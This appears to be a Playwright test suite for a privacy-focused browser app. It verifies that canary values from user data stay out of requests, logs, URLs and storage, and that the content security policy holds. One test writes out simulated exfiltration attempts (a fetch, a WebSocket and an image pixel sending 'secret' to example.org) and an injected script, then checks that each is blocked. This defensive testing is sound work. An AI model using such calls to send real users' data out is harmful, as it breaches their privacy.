import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium as playwright, type Page, type Worker } from '@playwright/test'
import { chromium } from './chromium.ts'
import { ROOT } from '../scripts/install-dependencies.mjs'
import { serveFolder } from '../scripts/serve.mjs'
import { App } from './support/app.ts'
import { CANARIES, CANARY_TABLE, canariesIn, settingsIn } from './support/canaries.ts'
import { expect, test } from './support/test.ts'

test.describe.configure({ retries: 0 })

/** From a file with words that must get nowhere to its answers. */
async function canaryJourney(app: App): Promise<void> {
  const { m } = app
  await app.quickModel(CANARY_TABLE)
  await app.evaluate()
  await app.button(m.evaluate.keep).click()
  await expect(app.kept).toBeVisible()
  await app.go('predict')
  await app.give(m.predict.scoreFile, CANARY_TABLE)
  await app.download(() => app.button(m.predict.download).click())
}

/** All that a page asks for, says on the console and has as its address, as long as it lives. */
class Trail {
  /** Address, headers and body of each request. */
  readonly requests: string[] = []
  readonly console: string[] = []
  readonly addresses: string[] = []

  constructor(page: Page) {
    page.on('request', (request) => {
      const body = request.postDataBuffer()?.toString('latin1') ?? ''
      this.requests.push([request.url(), JSON.stringify(request.headers()), body].join('\n'))
    })
    page.on('console', (message) => {
      this.console.push(message.text())
    })
    page.on('framenavigated', (frame) => {
      if (frame.url() !== 'about:blank') this.addresses.push(frame.url())
    })
  }
}

/** What a page keeps for everybody who opens it in this browser. */
function smallStorage(page: Page): Promise<string> {
  return page.evaluate(() =>
    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
  )
}

/** A link to the settings, as a person takes it. */
async function settingsLink(app: App, withNames: boolean): Promise<string> {
  const { train } = app.m
  await app.field(train.copyLinkNames).setChecked(withNames)
  await app.page.evaluate(() => navigator.clipboard.writeText('nothing yet'))
  await app.button(train.copyLink).click()
  const copied = () => app.page.evaluate(() => navigator.clipboard.readText())
  await expect.poll(copied).toContain('settings=')
  return copied()
}

/** Lists what the policy refuses, from before the page's first script, but for the page's own trial of it. */
async function countViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = []
    Reflect.set(window, '__violations', violations)
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.blockedURI !== 'data')
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
    })
  })
}

function violations(page: Page): Promise<unknown> {
  return page.evaluate(() => Reflect.get(window, '__violations') as unknown)
}

test('a whole journey asks the own origin only, under the strict policy, and no word of the data is in a request, a log or an address', async ({
  app,
  page,
  context,
  watch,
  baseURL,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const { m } = app
  const origin = new URL(baseURL ?? '').origin
  const policies = new Map<string, string>()
  page.on('response', (response) => {
    policies.set(response.url(), response.headers()['content-security-policy'] ?? '')
  })
  await countViolations(page)
  const trail = new Trail(page)
  await canaryJourney(app)
  await app.goPrivacy()
  const receipt = await app.download(() => app.button(m.lock.save).click())
  await app.go('train')
  const links = { bare: await settingsLink(app, false), named: await settingsLink(app, true) }
  trail.addresses.push(page.url())
  await page.reload()
  await app.goModels()
  await expect(app.table(m.models.title)).toContainText(CANARIES.file)
  expect(await violations(page)).toEqual([])
  expect(await page.context().cookies()).toEqual([])

  expect(watch.requests.length).toBeGreaterThan(10)
  for (const url of watch.requests) {
    expect(url.startsWith(`${origin}/`) || url.startsWith(`blob:${origin}/`), url).toBe(true)
  }
  const settings = trail.addresses.flatMap((address) => settingsIn(address) ?? [])
  expect(settings.join()).toContain('"epochs":6')
  for (const text of [
    ...[...trail.requests, ...trail.console, ...trail.addresses, ...settings],
    ...[receipt.name, receipt.bytes.toString(), await smallStorage(page)],
    ...[links.bare, String(settingsIn(links.bare))],
  ]) {
    expect(canariesIn(text), text).toEqual([])
  }
  // Only a link that was asked to names columns, and even that one has no cell and no file.
  expect(canariesIn(String(settingsIn(links.named)))).toEqual([CANARIES.column])
  const asked = [...policies].filter(([url]) => url.startsWith(origin))
  expect(asked.some(([url]) => url.includes('/workers/'))).toBe(true)
  for (const [url, policy] of asked) {
    expect(policy, url).toMatch(/^default-src 'none'; script-src 'self'/)
    // Compiling WebAssembly of our own script is allowed to workers; code in text is allowed to nobody.
    expect(policy, url).not.toContain("'unsafe")
    if (url.includes('/workers/')) expect(policy, url).toContain("connect-src 'none'")
  }
})

/** Ways to send something from a page and from a worker alike; each tells whether it was refused. */
async function refusals(place: Page | Worker): Promise<Record<string, boolean>> {
  const ask = async () => {
    const refused = async (attempt: () => unknown) => {
      try {
        await attempt()
        return false
      } catch {
        return true
      }
    }
    return {
      fetch: await refused(() => fetch('https://example.org/?q=secret')),
      socket: await refused(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://example.org/')
            socket.onopen = resolve
            socket.onerror = reject
          }),
      ),
    }
  }
  return 'url' in place && 'mouse' in place ? place.evaluate(ask) : place.evaluate(ask)
}

test('even code that got into the page or a worker can send nothing out', async ({
  app,
  page,
  watch,
}) => {
  watch.expect(
    /Content Security Policy|Refused to connect|Connection-Allowlist|ERR_BLOCKED|TrustedScript/i,
  )
  await countViolations(page)
  await app.quickModel()
  expect(await refusals(page)).toEqual({ fetch: true, socket: true })
  const [worker] = page.workers().filter((each) => each.url().includes('data'))
  if (worker === undefined) throw new Error('there is no data worker')
  expect(await refusals(worker)).toEqual({ fetch: true, socket: true })

  const inPage = await page.evaluate(async () => {
    const image = new Image()
    const loaded = new Promise<boolean>((resolve) => {
      image.onload = () => {
        resolve(true)
      }
      image.onerror = () => {
        resolve(false)
      }
    })
    image.src = 'https://example.org/pixel.png?q=secret'
    const script = document.createElement('script')
    try {
      script.text = 'window.__ran = true'
      document.body.append(script)
    } catch {
      // Trusted Types refuse the text; without them the policy refuses to run it.
    }
    return { image: await loaded, script: Reflect.has(window, '__ran') }
  })
  expect(inPage).toEqual({ image: false, script: false })
  expect(await violations(page)).toEqual(
    expect.arrayContaining([
      expect.stringContaining('connect-src'),
      expect.stringContaining('img-src'),
    ]),
  )
})

/** What Chromium asks for by itself: updates, sign-in, what to fill into forms. */
const BROWSER_HOSTS = /(^|\.)(google|googleapis|gvt1)\.com$/

/** The hosts that the browser's log of the network says were asked or looked up, but for the browser's own. */
function loggedHosts(log: string): string[] {
  const found = [...log.matchAll(/"(?:url|host)":"(?:(?:https?|wss?):\/\/)?([^"/]+)/g)]
  const hosts = found.map(([, host = '']) => host.replace(/:\d+$/, ''))
  return [...new Set(hosts)].filter((host) => !BROWSER_HOSTS.test(host))
}

test(
  'without headers everything works, and no word of the data is in the log of the network or of the host',
  { tag: '@long' },
  async () => {
    test.setTimeout(180_000)
    const folder = mkdtempSync(join(tmpdir(), 'terrarium-net-log-'))
    const log = join(folder, 'net-log.json')
    const asked: string[] = []
    const host = await serveFolder({
      root: join(ROOT, 'dist'),
      port: 0,
      headersOf: (address) => {
        asked.push(address)
        return {}
      },
    })
    const browser = await playwright.launch({
      ...chromium,
      args: [...chromium.args, `--log-net-log=${log}`, '--net-log-capture-mode=IncludeSensitive'],
    })
    try {
      const page = await browser.newPage({ baseURL: host.address })
      const app = new App(page)
      const { m } = app
      await canaryJourney(app)
      await app.goPrivacy()
      await expect(app.title).toHaveText(m.lock.titles.partial)
      await expect(app.pane(m.lock.restsOn)).toContainText(m.lock.inherited)
    } finally {
      await browser.close()
      await host.close()
    }
    const text = readFileSync(log, 'utf8')
    rmSync(folder, { recursive: true })
    // The log saw the page at all.
    expect(text).toContain(`${host.address}workers/data.worker`)
    expect(canariesIn(text)).toEqual([])
    expect(canariesIn(asked.join('\n'))).toEqual([])
    expect(loggedHosts(text)).toEqual(['127.0.0.1'])
  },
)
